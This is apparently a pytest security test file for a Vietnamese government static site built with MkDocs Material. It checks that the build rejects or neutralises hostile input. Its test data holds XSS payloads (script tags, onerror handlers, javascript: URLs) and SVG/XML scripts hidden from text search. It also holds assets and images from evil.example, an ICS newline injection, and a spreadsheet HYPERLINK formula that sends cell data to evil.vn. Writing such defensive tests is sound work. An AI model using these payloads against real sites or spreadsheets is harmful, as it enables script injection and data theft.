"""Holes a second attacker's pass found after the first round of hostile-input work: a page template that prints
unescaped, keys of ``extra:`` that Material prints or runs, a site address that ends a script, assets from another
host, SVG and XML files that hide a script from a text search, images from another host written with a backslash,
spreadsheet formulas in the open data, and a line break in a calendar's name."""

from __future__ import annotations

import base64
import csv
import io

import pytest
from conftest import Site, image_bytes
from procedure_helpers import write_procedure
from test_statistics import PERIOD_2020

from cchc.core.active_xml import ACTIVE, NOT_UTF8, UNREADABLE, xml_problem
from cchc.core.spreadsheet import inert

SCRIPT_TITLE = "</title><script>alert(document.domain)</script>"


def test_a_page_may_take_only_the_project_s_own_templates_which_escape(site: Site):
    site.write("content/trang-thu.md", f'---\ntitle: "{SCRIPT_TITLE}"\ntemplate: base.html\n---\n\nĐoạn.\n')
    site.write("content/trang-khac.md", "---\ntitle: Trang khác\ntemplate: article.html\n---\n\nĐoạn.\n")
    choice = 'chọn một trong: home.html, main.html, search.html (unknown template)'
    assert site.build_failed() == [
        f'content/trang-khac.md:3: template: không có mẫu trang "article.html"; xóa dòng "template:" (dùng mẫu mặc '
        f"định) hoặc {choice}",
        f'content/trang-thu.md:3: template: không có mẫu trang "base.html"; xóa dòng "template:" (dùng mẫu mặc '
        f"định) hoặc {choice}"]


@pytest.mark.parametrize("key, value", [
    ("consent", {"title": "<img src=x onerror=alert(1)>", "description": "x"}),
    ("homepage", "javascript:alert(document.domain)"),
    ("polyfills", ["https://evil.example/poly.js"]),
    ("analytics", {"provider": "google", "property": 'G-X");alert(document.domain);//'}),
    ("scope", '");alert(document.domain);//'),
])
def test_keys_of_extra_that_material_would_print_or_run_are_refused(site: Site, key, value):
    site.config["extra"][key] = value
    site.write_config()
    [error] = site.build_failed()
    assert error.startswith("mkdocs.yml:") and f": extra.{key}: trường không được hỗ trợ" in error
    assert error.endswith("(unknown field)")


def test_a_site_address_that_could_end_a_script_is_refused(site: Site):
    site.config["site_url"] = 'https://cchc.example.gov.vn/a");alert(1);//'
    site.write_config()
    [error] = site.build_failed()
    assert error.startswith("mkdocs.yml:2: site_url: địa chỉ trang ") and error.endswith("(malformed site_url)")


def test_scripts_and_styles_from_another_host_are_refused(site: Site):
    site.config["extra_javascript"] = ["assets/javascripts/rieng.js", "https://evil.example/a.js"]
    site.config["extra_css"] = [{"path": "//evil.example/a.css"}]
    site.write_config()
    errors = site.build_failed()
    assert [e.split(": ", 2)[1] for e in errors] == ["extra_javascript[2]", "extra_css[1]"]
    assert all(e.endswith("(asset from another host)") and "overrides/assets/" in e for e in errors)


SVG = 'xmlns="http://www.w3.org/2000/svg"'
HIDDEN_SCRIPTS = {
    "tien-to.svg": f'<svg {SVG} xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>',
    "ma-ky-tu.svg": f'<svg {SVG} xmlns:x="http://www.w3.org/1999/xlink"><a x:href="&#x6A;avascript:alert(1)">'
                    '<text>x</text></a></svg>',
    "xhtml.xml": '<du-lieu><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></du-lieu>',
    "hoat-hinh.svg": f'<svg {SVG}><animate attributeName="href" values="java&#9;script:alert(1)"/></svg>',
}


def test_svg_and_xml_that_hide_a_script_from_a_text_search_are_refused(site: Site):
    for name, text in HIDDEN_SCRIPTS.items():
        site.write(f"content/tep/{name}", text)
    site.write("content/tep/utf16.svg", f'<svg {SVG}><script>alert(1)</script></svg>'.encode("utf-16"))
    site.write("content/tep/hong.svg", f"<svg {SVG}><g></svg>")
    site.write("content/tep/so-do.svg", f'<svg {SVG} width="10" height="10"><rect width="10" height="10"/></svg>')
    errors = site.build_failed()
    assert [e.split(": ", 1)[0] for e in errors] == [
        "content/tep/hoat-hinh.svg", "content/tep/hong.svg", "content/tep/ma-ky-tu.svg", "content/tep/tien-to.svg",
        "content/tep/utf16.svg", "content/tep/xhtml.xml"]
    reasons = {e.split(": ", 1)[0].rsplit("/", 1)[1]: e.rsplit("(", 1)[1] for e in errors}
    assert reasons == {"hoat-hinh.svg": "active content in an image)", "hong.svg": "malformed XML)",
                       "ma-ky-tu.svg": "active content in an image)", "tien-to.svg": "active content in an image)",
                       "utf16.svg": "XML not in UTF-8)", "xhtml.xml": "active content in an image)"}


def test_what_an_svg_may_hold():
    assert xml_problem(f'\ufeff<?xml version="1.0"?><svg {SVG}><a href="tep/a.pdf"><text>Tải về</text></a></svg>'
                       .encode()) is None
    assert xml_problem(b"<svg><!DOCTYPE x [<!ENTITY a 'b'>]></svg>") == ACTIVE  # entities can also expand
    assert xml_problem(f'<svg {SVG} onload="x()"/>'.encode()) == ACTIVE
    assert xml_problem(b'<?xml-stylesheet href="a.xsl"?><a/>') == ACTIVE
    assert xml_problem("<svg>".encode("utf-16")) == NOT_UTF8 and xml_problem(b"<svg") == UNREADABLE


def test_an_image_from_another_host_written_with_a_backslash_is_refused(site: Site):
    site.article("anh-ngoai", body='<img src="/\\evil.example/a.png" alt="a">\n\n![c](\\\\evil.example/c.png)\n')
    errors = site.build_failed()
    assert [e.split(": ", 1)[0] for e in errors] == ["content/tin-tuc/anh-ngoai.md:10", "content/tin-tuc/anh-ngoai.md:12"]
    assert all(e.endswith("(resource from another host)") for e in errors)


FORMULA = '=HYPERLINK("http://evil.vn/?"&A1,"x")'


def cells(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_no_cell_of_the_open_data_is_a_spreadsheet_formula(site: Site):
    write_procedure(site, "a", name=FORMULA, result="+1+1", requirements="@SUM(1)")
    tasks = [{"month": m, "theme": "-2+3" if m == 1 else f"Chủ đề {m}", "forms": ["website"], "lead": "Văn phòng"}
             for m in range(1, 13)]
    site.plan(tasks=tasks)
    site.write("content/thong-ke/ho-so.yaml", PERIOD_2020.replace("source: Báo cáo của Sở", "source: =1+2"))
    site.build_ok()
    procedures = cells(site.site_dir / "thu-tuc-hanh-chinh/thu-tuc.csv")
    row = dict(zip(procedures[0], procedures[1]))
    assert f"'{FORMULA}" in row.values() and "'+1+1" in row.values() and "'@SUM(1)" in row.values()
    assert cells(site.site_dir / "ke-hoach/2022/ket-qua.csv")[1][1] == "'-2+3"
    assert "'=1+2" in cells(site.site_dir / "thong-ke/ho-so.csv")[1]
    for made in site.site_dir.rglob("*.csv"):
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells(made) for cell in row), made


def test_numbers_stay_numbers_in_a_spreadsheet():
    assert (inert(-5), inert(0.5), inert("12/2022"), inert("\t=1")) == (-5, 0.5, "12/2022", "'\t=1")


def test_a_line_break_in_a_plan_s_title_stays_out_of_the_calendar_s_lines(site: Site):
    site.plan(title="Kế hoạch\nATTENDEE:mailto:x@evil.vn")
    site.build_ok()
    calendar = (site.site_dir / "ke-hoach/2022.ics").read_text(encoding="utf-8")
    assert "X-WR-CALNAME:Kế hoạch ATTENDEE:mailto:x@evil.vn (290/KH-SGDĐT)" in calendar.replace("\r\n ", "")
    assert not any(line.startswith("ATTENDEE") for line in calendar.splitlines())


# --- the third pass: what Material prints from a page's front matter and from theme:, and what the checks of the
# source cannot read ---------------------------------------------------------------------------------------------

def test_a_plain_page_takes_only_the_keys_the_site_reads(site: Site):
    site.write("content/trang-thu.md", "---\ntitle: Trang\nrevision_date: '<img src=x onerror=alert(1)>'\n"
                                       "subtitle: '<b>x</b>'\nstatus: 'x\" onmouseover=\"alert(2)'\nhide: [tabs]\n---\n\nĐoạn.\n")
    errors = site.build_failed()
    assert [e.split(": ", 2)[:2] for e in errors] == [
        ["content/trang-thu.md:3", "revision_date"], ["content/trang-thu.md:4", "subtitle"],
        ["content/trang-thu.md:5", "status"], ["content/trang-thu.md:6", "hide"]]
    assert errors[-1].endswith("chọn trong: navigation, toc, footer, path (unknown part to hide)")


def test_an_image_address_the_source_check_cannot_read_is_dropped_from_the_page(site: Site):
    site.write("content/tin-tuc/anh/a.png", image_bytes(800, 600))
    site.article("anh-la", body="![g](&#47;&#47;evil.example/g.png)\n\n![h](https&#58;//evil.example/h.png)\n\n"
                                "![a[b[c]]](https://evil.example/a.png)\n\n"
                                '![e](anh/a.png){: src="https://evil.example/e.png"}\n')
    site.build_ok()
    page = site.html("tin-tuc/anh-la/")
    addresses = [element.get(name, "") for element in page.select("img, source") for name in ("src", "srcset")]
    assert {"g", "h", "e"} <= {img.get("alt") for img in page.select("img")}  # the images are there...
    assert addresses and not any("evil" in a for a in addresses), addresses  # ...without another host's address


def test_an_svg_may_not_open_a_frame_or_a_document_of_its_own(site: Site):
    framed = base64.b64encode(f'<svg {SVG} onload="alert(1)"/>'.encode()).decode()
    site.write("content/tep/khung.svg", f'<svg {SVG} xmlns:h="http://www.w3.org/1999/xhtml"><h:frameset>'
                                        f'<h:frame src="data:image/svg+xml;base64,{framed}"/></h:frameset></svg>')
    site.write("content/tep/nhap.svg", f'<svg {SVG}><style>@import url(https://evil.example/a.css);</style></svg>')
    site.write("content/tep/anh-nhung.svg", f'<svg {SVG}><image href="data:image/png;base64,iVBORw0KGgo="/></svg>')
    errors = site.build_failed()
    assert [e.split(": ", 1)[0] for e in errors] == ["content/tep/khung.svg", "content/tep/nhap.svg"]


@pytest.mark.parametrize("key, value, field", [
    ("theme", {"palette": {"primary": 'x"><img/src=x/onerror=alert(1)>'}}, "theme.palette.primary"),
    ("theme", {"direction": 'ltr"><script>alert(2)</script>'}, "theme.direction"),
    ("theme", {"logo": 'x" onerror="alert(3)'}, "theme.logo"),
    ("theme", {"favicon": "https://evil.example/f.ico"}, "theme.favicon"),
    ("theme", {"font": {"text": "Roboto"}}, "theme.font"),
    ("theme", {"language": 'vi"><x>'}, "theme.language"),
    ("repo_name", "<img src=x onerror=alert(4)>", "repo_name"),
    ("edit_uri", "javascript:alert(5)//", "edit_uri"),
    ("extra_javascript", ["http:evil.example/b.js"], "extra_javascript[1]"),
])
def test_settings_material_prints_or_loads_are_words_or_the_site_s_own_files(site: Site, key, value, field):
    if key == "theme":
        site.config["theme"].update(value)
    else:
        site.config[key] = value
    site.write_config()
    [error] = site.build_failed()
    assert error.startswith("mkdocs.yml:") and f": {field}: " in error
